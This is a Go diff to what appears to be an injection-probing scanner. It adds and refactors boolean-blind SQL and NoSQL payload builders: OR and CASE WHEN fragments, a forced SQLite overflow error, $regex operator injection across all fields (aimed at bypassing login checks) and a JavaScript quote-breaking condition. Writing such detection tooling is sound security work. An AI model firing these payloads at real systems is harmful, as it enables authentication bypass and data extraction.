@@ -13,6 +13,9 @@ import (
 type Condition struct {
 	Variant string
 	write   func(holds bool, m Mark) any
+	// All says that the value stands in all free texts of the tool: a name alone opens nothing where a
+	// password has to fit as well.
+	All bool
 }
 
 // Value makes the value whose condition holds or does not, and its text. Marks must differ from value
@@ -40,11 +43,11 @@ func comparison(holds bool, m Mark, equals string) string {
 
 // inSQL puts a condition between two texts. A random word comes first, since no record holds it.
 func inSQL(variant, before, after string) Condition {
-	return Condition{variant, func(holds bool, m Mark) any { return before + comparison(holds, m, "=") + after }}
+	return Condition{Variant: variant, write: func(holds bool, m Mark) any { return before + comparison(holds, m, "=") + after }}
 }
 
 func behindWord(variant, before, after string) Condition {
-	return Condition{variant, func(holds bool, m Mark) any { return m.Token + before + comparison(holds, m, "=") + after }}
+	return Condition{Variant: variant, write: func(holds bool, m Mark) any { return m.Token + before + comparison(holds, m, "=") + after }}
 }
 
 var sqlConditions = []Condition{
@@ -54,17 +57,22 @@ var sqlConditions = []Condition{
 	inSQL("a condition behind a number", "0 OR ", ""),
 	inSQL("a limit behind a column", "1 LIMIT (CASE WHEN ", " THEN 1 ELSE 0 END) -- "),
 	inSQL("a sort that can fail", "(CASE WHEN ", " THEN 1 ELSE (SELECT 1 UNION SELECT 2) END)"),
+	inSQL("a sort that can fail in SQLite", "(CASE WHEN ", " THEN 1 ELSE abs(-9223372036854775808) END)"),
+}
+
+// operator is an operator of a document database. It has the same name and length both times: a refusal may
+// tell either.
+func operator(holds bool, m Mark) any {
+	if holds {
+		return map[string]any{"$regex": "^(?!" + m.Token + ")"}
+	}
+	return map[string]any{"$regex": "^(?=" + m.Token + ")"}
 }
 
 var noSQLConditions = []Condition{
-	{"an operator in the place of a text", func(holds bool, m Mark) any {
-		// The same operator and length both times: a refusal may tell either.
-		if holds {
-			return map[string]any{"$regex": "^(?!" + m.Token + ")"}
-		}
-		return map[string]any{"$regex": "^(?=" + m.Token + ")"}
-	}},
-	{"code in a condition", func(holds bool, m Mark) any {
+	{Variant: "an operator in the place of a text", write: operator},
+	{Variant: "an operator in the place of every text", write: operator, All: true},
+	{Variant: "code in a condition", write: func(holds bool, m Mark) any {
 		return m.Token + "' || " + comparison(holds, m, "==") + " || '"
 	}},
 }
@@ -78,9 +86,7 @@ func (t *Target) Conditions() []Condition {
 	case t.Class == probe.SQLInjection:
 		return sqlConditions
 	case t.Class == probe.NoSQLInjection:
-		if t.Parameter.Type == "string" {
-			return noSQLConditions[1:] // a text can be no operator
-		}
+		// A text can be no operator, but many servers never compare arguments with their schema.
 		return noSQLConditions
 	}
 	return nil
